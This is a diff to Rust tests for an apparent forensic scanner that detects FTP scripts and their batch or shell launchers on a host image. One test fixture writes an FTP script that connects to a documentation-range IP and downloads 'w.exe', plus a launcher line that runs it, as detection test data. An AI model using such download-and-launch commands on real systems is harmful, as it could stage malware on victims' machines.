@@ -2,7 +2,7 @@
 
 use super::host;
 use crate::support::{program, scan_json, timeless};
-use ftpsift::base::anomaly::Anomaly;
+use ftpsift::base::anomaly::{Anomaly, Cause, Stage};
 use ftpsift::base::limits::Limits;
 use ftpsift::case::Case;
 use ftpsift::evidence::entry::{Entry, EntryPath};
@@ -13,6 +13,7 @@ use ftpsift::scan::bounds::{Bounds, Budget, MemoryCap};
 use ftpsift::scan::progress::Progress;
 use ftpsift::scan::request::{Live, ScanRequest};
 use serde_json::Value;
+use std::collections::BTreeSet;
 use std::ops::ControlFlow;
 use std::path::Path;
 use std::sync::atomic::{AtomicU64, Ordering};
@@ -94,7 +95,54 @@ fn a_triage_that_is_not_cut_short_reports_what_a_scan_does() {
         let (code, mut report) = triage(root.path(), &["--threads", threads]);
         assert_eq!(code, Some(1));
         assert!(report["scan"].as_object_mut().unwrap().remove("host").is_some());
-        assert_eq!(timeless(report), scanned, "{threads}");
+        for counted in ["files", "directories", "bytes_read", "scripts", "payloads", "errors"] {
+            let counts = |report: &Value| report["scan"]["counts"][counted].clone();
+            assert_eq!(counts(&report), counts(&scanned), "{threads}: {counted}");
+        }
+        let rules = |report: &Value| -> BTreeSet<String> {
+            let findings = report["findings"].as_array().unwrap().iter();
+            findings.filter_map(|finding| finding["rule"].as_str().map(str::to_owned)).collect()
+        };
+        // It has the names of the host, which on Windows has drives; which folders everybody may write to they tell as well.
+        if cfg!(unix) {
+            assert_eq!(rules(&report), rules(&scanned));
+            let place = root.path().canonicalize().unwrap().display().to_string();
+            let lead = format!("{}/", place.trim_start_matches('/'));
+            let plain = |report: &Value| {
+                let mut report: Value = serde_json::from_str(&report.to_string().replace(&lead, "")).unwrap();
+                report["scan"]["counts"].as_object_mut().unwrap().remove("findings");
+                report.as_object_mut().unwrap().remove("findings");
+                report
+            };
+            assert_eq!(plain(&timeless(report)), plain(&scanned), "{threads}");
+        }
+    }
+}
+
+/// A folder of the host is not its root: what a batch file says of the place of a script is found all the same.
+#[test]
+fn a_folder_that_is_named_keeps_its_place_on_the_host() {
+    let root = tempfile::tempdir().unwrap();
+    host(root.path(), 0);
+    let folder = root.path().canonicalize().unwrap().join("w");
+    std::fs::create_dir(&folder).unwrap();
+    let script = folder.join("a.txt").display().to_string().replace(r"\\?\", "");
+    std::fs::write(folder.join("a.txt"), "open 192.0.2.7\nuser w pw\nget w.exe\nbye\n").unwrap();
+    let (name, launch) = match cfg!(windows) {
+        true => ("r.bat", format!("ftp -n -s:{script}\r\n")),
+        false => ("r.sh", format!("#!/bin/sh\nlftp -f {script}\n")),
+    };
+    std::fs::write(folder.join(name), launch).unwrap();
+    for named in [folder.clone(), root.path().to_owned()] {
+        let (_, report) = triage(&named, &[]);
+        let launches = report["launches"].as_array().unwrap();
+        let ours = launches.iter().find(|launch| launch["script_path"] == *script).expect("it is found");
+        assert_eq!(ours["scripts"].as_array().unwrap().len(), 1, "{ours}");
+        let paths: Vec<&str> =
+            report["scripts"].as_array().unwrap().iter().filter_map(|script| script["path"].as_str()).collect();
+        assert!(paths.contains(&script.trim_start_matches('/')), "{paths:?}");
+        let findings = report["findings"].as_array().unwrap();
+        assert!(findings.iter().all(|finding| finding["rule"] != "launch.script-gone"), "{findings:?}");
     }
 }
 
@@ -129,6 +177,43 @@ fn the_report_says_which_files_were_read_from_the_volume() {
     assert_eq!(told.evidence[0].read_from_volume, ["Windows/Temp/z.exe"]);
     let plain = of(Box::new(shared()));
     assert!(serde_json::to_value(&plain).unwrap()["evidence"][0].get("read_from_volume").is_none());
+}
+
+/// A host with a file that is kept online.
+struct Online(Host);
+
+impl FileSystem for Online {
+    fn walk(&self, limits: &Limits, visit: &mut dyn FnMut(Walked) -> ControlFlow<()>) {
+        let cause = Cause::Elsewhere("120 files here: kept online".to_owned());
+        if visit(Walked::Anomaly(Anomaly::new(Stage::Walk, "Windows/Temp", cause))).is_continue() {
+            self.0.walk(limits, visit);
+        }
+    }
+
+    fn open(&self, path: &EntryPath) -> Result<Opened, Anomaly> {
+        if path.as_bytes().ends_with(b".exe") {
+            let cause = Cause::Elsewhere("kept online".to_owned());
+            return Err(Anomaly::new(Stage::Read, path.display(), cause));
+        }
+        self.0.open(path)
+    }
+
+    fn list(&self, directory: &EntryPath) -> Vec<Entry> {
+        self.0.list(directory)
+    }
+}
+
+#[test]
+fn what_is_kept_online_leaves_a_run_complete() {
+    let root = tempfile::tempdir().unwrap();
+    host(root.path(), 0);
+    std::fs::write(root.path().join("Windows/Temp/other.exe"), "MZ").unwrap();
+    let online = Box::new(Online(Host::open(root.path(), &Limits::default()).unwrap()));
+    let case = scan::run_over(online, "host", &ScanRequest::default(), &Progress::default());
+    assert!(case.scan.complete, "{:?}", case.errors);
+    // Once for its folder, and once as what a script had fetched.
+    let told: Vec<(&str, Stage)> = case.errors.iter().map(|error| (error.path.as_str(), error.stage)).collect();
+    assert_eq!(told, [("Windows/Temp", Stage::Walk), ("Windows/Temp/z.exe", Stage::Read)]);
 }
 
 #[test]
